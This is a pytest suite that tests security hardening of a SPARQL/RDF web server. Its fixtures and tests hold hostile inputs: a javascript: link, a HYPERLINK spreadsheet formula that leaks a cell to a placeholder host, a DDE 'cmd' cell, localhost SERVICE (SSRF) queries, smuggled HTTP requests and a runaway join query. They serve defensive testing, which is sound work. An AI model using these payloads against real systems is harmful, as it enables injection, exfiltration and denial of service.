"""The endpoint under attack (issue 13): SERVICE in any form, network-less workers, answers
bounded in bytes and per value, worker memory cap, lanes, HTTP framing and idle connections,
no live javascript: links, CSP, spreadsheet-safe CSV. Invented data only."""

from __future__ import annotations

import json
import socket
import threading
import time

import pytest
from rdflib import Literal, URIRef
from test_publish import BASE, sample_graph
from test_serve import call as serve_call
from test_serve import q

from graf.serve import app as serve_app
from graf.serve.app import make_server, start_in_thread
from graf.serve.guard import uses_service

LONG = "Lorem ipsum dolor sit amet. " * 400  # 11 200 characters
RUNAWAY = ("SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o . "
           "?p ?q ?r . ?s ?t ?u }")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    g = sample_graph()
    g.add((URIRef(BASE + "dokument/lang"), URIRef("https://w3id.org/graf/ns#text"), Literal(LONG)))
    g.add((URIRef(BASE + "x/evil"), URIRef("http://www.w3.org/2000/01/rdf-schema#seeAlso"),
           URIRef("javascript:alert(1)")))
    g.add((URIRef(BASE + "x/evil"), URIRef("http://www.w3.org/2000/01/rdf-schema#label"),
           Literal("=HYPERLINK(\"http://example.invalid/?\"&A1,\"klicka\")")))
    path = tmp_path_factory.mktemp("hard") / "graph.ttl"
    g.serialize(destination=str(path), format="turtle")
    mp = pytest.MonkeyPatch()
    mp.setenv("GRAF_SERVE_MAX_VALUE_CHARS", "500")
    mp.setenv("GRAF_SERVE_MAX_ANSWER_MB", "0.004")  # ~4 kB of values
    srv = make_server(data=str(path), port=0, base=BASE, timeout=1.0, max_rows=1000, workers=2)
    mp.undo()
    # the idle limit is read when a connection goes idle, so it stays patched while the server runs
    idle = pytest.MonkeyPatch()
    idle.setattr(serve_app, "IDLE_SECONDS", 1.0)
    start_in_thread(srv)
    try:
        yield srv
    finally:
        srv.close()
        idle.undo()


def call(server, path, accept=None, data=None, ctype=None):
    # runaway queries share this server: a longer client timeout than test_serve's
    return serve_call(server, path, accept, data, ctype, timeout=60)


# -- SERVICE


@pytest.mark.parametrize("query", [
    "SELECT * WHERE { ?a ?b ?c .SERVICE <http://127.0.0.1:9/> { ?c ?d ?e } }",
    "PREFIX p: <http://x.invalid/> SELECT * WHERE { ?a p:a\\#b ?c SERVICE <http://127.0.0.1:9/> { ?c ?d ?e } }",
    "SELECT * WHERE { FILTER EXISTS { SERVICE SILENT <http://127.0.0.1:9/> { ?a ?b ?c } } }",
    "SELECT * WHERE { { SELECT * WHERE { sErViCe <http://127.0.0.1:9/> { ?a ?b ?c } } } }",
    "SELECT * WHERE { \\u0053ERVICE <http://127.0.0.1:9/> { ?a ?b ?c } }",
])
def test_service_is_refused_in_every_form(server, query):
    assert uses_service(query)
    status, _, body = call(server, q(query))
    assert status == 403 and b"SERVICE" in body


def test_the_word_service_in_strings_and_comments_is_not_a_service():
    assert not uses_service("SELECT * WHERE { ?a ?b 'SERVICE <http://x.invalid/>' } # SERVICE <x>")


def test_query_workers_cannot_open_network_connections(server):
    """Even a SERVICE that got past the guard reaches nothing: the worker has no network."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    port = listener.getsockname()[1]
    assert server.pool.sandbox_problem is None
    job = {"op": "query", "max_rows": 10, "limits": {"refuse_service": False},
           "query": f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}"}
    from graf.serve.workers import WorkerFailure

    with pytest.raises(WorkerFailure):
        server.pool.run(job, timeout=10)
    # a connection the worker made would be waiting in the listen queue (the kernel completes
    # the handshake before accept), so an empty queue once the query has failed means none was
    # made: no need to wait for one
    listener.setblocking(False)
    try:
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


# -- bounded answers


def test_long_values_are_cut_and_flagged(server):
    status, headers, body = call(server, q(f"SELECT ?t WHERE {{ <{BASE}dokument/lang> ?p ?t }}"), "application/json")
    assert status == 200
    value = json.loads(body)["results"]["bindings"][0]["t"]["value"]
    assert value == LONG[:500]
    assert headers["X-Graf-Values-Cut"].startswith("1 ")


def test_answer_bytes_are_bounded_and_flagged(server):
    status, headers, body = call(server, q("SELECT ?s ?p ?o WHERE { ?s ?p ?o }"), "text/csv")
    assert status == 200
    assert headers["X-Graf-Truncated"] == "bytes"
    assert len(body) < 3 * 4 * 1024 + 2000  # a few kB, not the whole graph


def test_worker_past_its_memory_cap_is_stopped_and_replaced(tmp_path):
    from graf import publish
    from graf.serve.workers import WorkerFailure, WorkerPool

    store = tmp_path / "store"
    publish.materialise(publish.load_file(_ttl(tmp_path)), store)
    pool = WorkerPool(str(store), False, size=1, memory_quads=10**6, max_worker_bytes=64 * 2**20)
    try:
        hog = ("SELECT ?a ?b ?c ?d ?e WHERE { ?a ?x ?y . ?b ?x2 ?y2 . ?c ?x3 ?y3 . ?d ?x4 ?y4 . ?e ?x5 ?y5 } "
               "ORDER BY ?a ?b ?c ?d ?e")
        with pytest.raises(WorkerFailure) as caught:
            pool.run({"op": "query", "query": hog, "max_rows": 10}, timeout=120)
        assert caught.value.status == 503 and "memory" in caught.value.message
        ok = pool.run({"op": "query", "query": "ASK { ?s ?p ?o }", "max_rows": 1}, timeout=120)
        assert ok["value"] is True  # the replacement answers
    finally:
        pool.close()


def _ttl(tmp_path):
    path = tmp_path / "g.ttl"
    sample_graph().serialize(destination=str(path), format="turtle")
    return str(path)


def test_pages_keep_flowing_while_runaway_queries_loop(server):
    stop = threading.Event()

    def loop():
        while not stop.is_set():
            call(server, q(RUNAWAY))

    attackers = [threading.Thread(target=loop) for _ in range(2)]
    for a in attackers:
        a.start()
    try:
        time.sleep(0.5)
        statuses = [call(server, "/person/anna-berg", "text/html")[0] for _ in range(10)]
        # the runaway text is penalised after its first overrun: plain queries get workers too
        time.sleep(1.5)
        statuses += [call(server, q("ASK { ?s ?p ?o }"), "application/json")[0] for _ in range(5)]
    finally:
        stop.set()
        for a in attackers:
            a.join()
    assert statuses == [200] * 15


# -- HTTP


def _raw(server, data: bytes, wait: float = 10) -> bytes:
    host, port = server.server_address[:2]
    with socket.create_connection((host, port), timeout=wait) as s:
        s.sendall(data)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except TimeoutError:
            pass
    return out


def test_no_request_smuggling_after_413(server):
    hidden = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n"
    head = (b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
            b"Content-Length: 2000000\r\n\r\n")
    out = _raw(server, head + hidden)
    assert out.startswith(b"HTTP/1.1 413")
    assert out.count(b"HTTP/1.1 ") == 1  # the request inside the refused body never ran


def test_content_length_beside_transfer_encoding_is_refused_and_the_connection_closed(server):
    """RFC 9112 6.1: a request with both framings is answered and its connection closed; a proxy
    in front that reads Content-Length would otherwise see the bytes after the empty chunked
    body as part of this request, and graf would run them as the next one (found by
    bench/faults.py in session 4: 400 then a 200 for the hidden request)."""
    hidden = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n"
    head = (b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
            b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
    out = _raw(server, head + hidden)
    assert out.startswith(b"HTTP/1.1 400")
    assert out.count(b"HTTP/1.1 ") == 1  # the request after the chunked body never ran


def test_the_listen_backlog_is_large(server):
    """Under 50 clients a backlog of 5 overflowed (367 refused connections in issue 13). The
    kernel reports a listening socket's backlog as its Send-Q."""
    import shutil
    import subprocess

    ss = shutil.which("ss")
    if ss is None:
        pytest.skip("no ss (iproute2) to read the listen backlog from the kernel")
    port = server.server_address[1]
    rows = subprocess.run([ss, "-ltnH", f"sport = :{port}"], capture_output=True, text=True).stdout.split()
    assert int(rows[2]) >= 128, rows


def test_idle_connections_are_closed(server):
    host, port = server.server_address[:2]
    with socket.create_connection((host, port), timeout=30) as s:
        assert s.recv(10) == b""  # closed by the server (IDLE_SECONDS is 1 s here), not timed out
    with socket.create_connection((host, port), timeout=30) as s:
        s.sendall(b"GET / HTTP/1.1\r\n")  # headers never finished
        assert s.recv(10) == b""


def test_html_has_a_content_security_policy_and_no_live_javascript_links(server):
    status, headers, body = call(server, "/x/evil", "text/html")
    assert status == 200
    assert "script-src" not in headers["Content-Security-Policy"]
    assert "default-src 'none'" in headers["Content-Security-Policy"]
    page = body.decode()
    assert "javascript:alert(1)" in page  # shown…
    assert 'href="javascript:' not in page.lower()  # …never as a link
    status, _, body = call(server, q("SELECT ?o WHERE { ?s ?p ?o }"), "text/html")
    assert 'href="javascript:' not in body.decode().lower()


def test_ask_answers_render_as_html(server):
    # found by bench/faults.py in session 4: an ASK asked for as HTML was a 500 (the results
    # template read a row-limit flag only SELECT and CONSTRUCT answers carry)
    status, headers, body = call(server, q("ASK { ?s ?p ?o }"), "text/html")
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert 'id="result-boolean">true<' in body.decode()


def test_csv_answers_are_spreadsheet_safe(server):
    status, _, body = call(server, q(f"SELECT ?l WHERE {{ <{BASE}x/evil> ?p ?l FILTER(isLiteral(?l)) }}"), "text/csv")
    assert status == 200
    assert body.splitlines()[1].startswith(b"\"'=HYPERLINK")


def test_spreadsheet_safe_cells():
    from graf.tabular import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("-3") == "-3" and spreadsheet_safe("+4.5") == "+4.5"
    assert spreadsheet_safe("Anna Berg") == "Anna Berg"


def test_dumps_are_built_ahead_not_on_request(server):
    # issue 13: the first dump request took 132 s under a lock; the dumps are now built by a
    # process of their own when the server starts, so they appear without anyone asking
    from graf.serve.app import DUMPS
    folder = server.app.dump_folder
    for _ in range(600):
        if all((folder / name).exists() for name, _, _ in DUMPS):
            break
        time.sleep(0.05)
    assert sorted(p.name for p in folder.iterdir() if p.name in {n for n, _, _ in DUMPS}) == sorted(n for n, _, _ in DUMPS)
